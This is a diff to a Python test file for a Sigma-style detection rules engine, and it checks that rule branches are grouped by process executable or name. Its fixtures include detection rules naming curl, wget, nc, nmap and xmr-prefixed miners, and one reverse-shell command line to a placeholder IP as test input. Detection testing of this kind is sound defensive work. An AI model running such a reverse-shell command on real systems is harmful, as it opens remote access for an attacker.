@@ -297,7 +297,7 @@ def test_lint_warns_about_fields_the_category_never_carries(tmp_path, capsys):
     assert "0 with warnings" in capsys.readouterr().out
 
 
-def test_only_the_branches_an_executable_can_satisfy_run_and_verdicts_stay_the_same(tmp_path):
+def test_only_the_branches_an_executable_or_name_can_satisfy_run_and_verdicts_stay_the_same(tmp_path):
     from shipper.detect.engine import RulesEngine
     from shipper.model import Event
 
@@ -309,7 +309,8 @@ def test_only_the_branches_an_executable_can_satisfy_run_and_verdicts_stay_the_s
         condition: 1 of sel_* and not filter""")
     engine = RulesEngine.from_paths([path], builtin=False)
     rule = engine.rules[0]
-    assert sorted(sorted(keys) for keys, _ in rule.branches if keys) == [["curl"], ["nc"], ["wget"]]
+    exe = "process.executable"
+    assert sorted(sorted(keys) for keys, _ in rule.branches if keys) == [[(exe, "curl")], [(exe, "nc")], [(exe, "wget")]]
     assert [keys for keys, _ in rule.branches].count(None) == 1
     for executable in ["/usr/bin/curl", "/bin/WGET", "/usr/bin/nc", "/bin/nc", "/bin/sh", "curl", ""]:
         for command_line in ["x http://a", "sh -i >& /dev/tcp/1.2.3.4/1", "ls"]:
@@ -318,3 +319,25 @@ def test_only_the_branches_an_executable_can_satisfy_run_and_verdicts_stay_the_s
                 fired = bool(engine.judge(Event("e", "2026-11-29T00:00:00Z", "processes", doc)).verdicts)
                 assert fired is rule.matches(doc), doc
     assert engine.judge(Event("e", "t", "processes", {"process": {"executable": "/usr/bin/nc"}})).verdicts
+
+
+def test_rules_on_the_process_name_are_grouped_by_it(tmp_path):
+    from shipper.detect.engine import RulesEngine
+    from shipper.model import Event
+
+    path = linux_rule(tmp_path, "{product: linux, category: process_creation}", """
+        tool: {process.name: [nc, NMAP]}
+        web: {process.name: [curl, wget], process.command_line|contains: '://localhost'}
+        prefix: {process.name|startswith: xmr}
+        condition: (tool or web) and not prefix""")
+    engine = RulesEngine.from_paths([path], builtin=False)
+    rule = engine.rules[0]
+    assert sorted(key for keys, _ in rule.branches for key in keys) == [
+        ("process.name", "curl"), ("process.name", "nc"), ("process.name", "nmap"), ("process.name", "wget")]
+    for name in ["nc", "Nmap", "curl", "wget", "xmrig", "sh", None]:
+        for executable in ["/usr/bin/curl", "/bin/nc", None]:
+            for command_line in ["curl http://localhost/", "nc -l 80"]:
+                process = {"name": name, "executable": executable, "command_line": command_line}
+                doc = {"process": {k: v for k, v in process.items() if v is not None}}
+                fired = bool(engine.judge(Event("e", "t", "processes", doc)).verdicts)
+                assert fired is rule.matches(doc), doc
